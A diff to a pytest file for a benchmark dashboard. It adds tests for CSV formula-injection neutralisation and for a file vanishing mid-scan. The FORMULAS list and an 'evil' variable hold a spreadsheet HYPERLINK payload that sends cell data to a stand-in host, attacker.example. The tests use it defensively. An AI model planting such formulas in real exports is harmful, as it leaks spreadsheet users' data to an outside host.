@@ -1,4 +1,4 @@
-"""Faults in what the dashboard reads: absurd and corrupt result files.
+"""Faults in what the dashboard reads: absurd and corrupt result files, a file vanishing mid-scan, formula names.
 
 Each test plants one fault in a copy of the shared results set (``results_set`` of ``tests/conftest.py``)
 and asserts three things: nothing lost (every good value still loads), nothing crashed (every page renders),
@@ -9,6 +9,8 @@ the tests that could run into that run in a subprocess under an address-space li
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 import json
 import math
@@ -26,11 +28,14 @@ import pytest
 pd = pytest.importorskip("pandas", reason="needs the dashboard extra")
 pytest.importorskip("streamlit", reason="needs the dashboard extra")
 
+import streamlit  # noqa: E402 - after the extra's guard
 from streamlit.testing.v1 import AppTest  # noqa: E402
 
 from bncvl.testing.results import CPU_MACHINE  # noqa: E402
 from bncvl.track.changes import find_changes, fit_steps  # noqa: E402
 from bncvl.track.results import load_results  # noqa: E402
+from dashboard import data as dashboard_data  # noqa: E402
+from dashboard.export import csv_bytes  # noqa: E402
 from tests.conftest import PLANTED_AT, PLANTED_FLOPS, PLANTED_TIME  # noqa: E402
 
 REPO = Path(__file__).resolve().parent.parent
@@ -451,3 +456,79 @@ def test_missing_benchmarks_json_every_page_renders(
     shown = in_dashboard(root)
     assert_every_page_renders(shown, with_content=False)
     assert any("benchmarks.json" in warning for warning in shown["memory_gpu"]["warnings"])
+
+
+# --- 7. spreadsheet formulas in the CSV; a file vanishing mid-scan ----------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"details")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
+    table = pd.DataFrame(
+        {
+            "benchmark": [*FORMULAS, "bench_latency.Latency.time_eval_forward"],
+            "kind": pd.Categorical(["=1+1", *["regression"] * len(FORMULAS)]),
+            "factor": [-1.5, *[1.25] * len(FORMULAS)],
+        }
+    )
+
+    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode(), newline="")))
+
+    assert rows[0] == ["benchmark", "kind", "factor"]
+    assert [row[0] for row in rows[1:]] == [
+        *("'" + cell for cell in FORMULAS),
+        "bench_latency.Latency.time_eval_forward",
+    ]
+    assert rows[1][1] == "'=1+1" and rows[2][1] == "regression", "categorical columns too"
+    assert rows[1][2] == "-1.5", "numbers stay numbers"
+
+
+def test_regressions_csv_download_is_neutralised(
+    results_set: tuple[Path, list[str]], tmp_path: Path, runs_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = copy_results(results_set, tmp_path)
+    evil = '=HYPERLINK("http://attacker.example","x")'
+    for path in root.glob("**/*.json"):
+        path.write_text(path.read_text().replace(PLANTED_TIME.benchmark, json.dumps(evil)[1:-1]))
+    downloads: list[bytes] = []
+    original = streamlit.download_button
+
+    def recording(label: str, data: bytes, *args: object, **kwargs: object) -> bool:
+        downloads.append(data)
+        return original(label, data, *args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", recording)
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("BNCVL_RESULTS_DIR", str(root))
+    monkeypatch.setenv("BNCVL_RUNS_DIR", str(runs_dir))
+    app = AppTest.from_file(str(APP), default_timeout=120)
+    app.run()
+    app.switch_page("views/regressions.py").run()
+    kinds = app.multiselect(key="regressions_kind")
+    kinds.set_value(["regression", "improvement", "within noise", "unconfirmed", "change"]).run()
+
+    assert not app.exception, [error.value for error in app.exception]
+    rows = list(csv.DictReader(io.StringIO(downloads[-1].decode(), newline="")))
+    names = {row["benchmark"] for row in rows}
+    assert "'" + evil in names and evil not in names
+
+
+def test_fingerprint_tolerates_a_file_vanishing_mid_scan(
+    results_set: tuple[Path, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = copy_results(results_set, tmp_path)
+    before = dashboard_data.fingerprint([root], ".json")
+    vanishing = str(result_file(root, results_set[1][CORRUPT_AT]))
+    stat = os.stat
+
+    def renamed_by_asv_after_listing(path: str | os.PathLike[str], *args: object, **kwargs: object) -> os.stat_result:
+        if os.fspath(path) == vanishing:
+            os.rename(vanishing, vanishing + ".tmp")  # as asv replaces a file: gone between listing and stat
+        return stat(path, *args, **kwargs)
+
+    monkeypatch.setattr(os, "stat", renamed_by_asv_after_listing)
+    during = dashboard_data.fingerprint([root], ".json")
+    monkeypatch.setattr(os, "stat", stat)
+
+    assert [entry[0] for entry in during] == [entry[0] for entry in before if entry[0] != vanishing]
+    assert dashboard_data.fingerprint([root], ".json") != before, "the next scan sees the change"
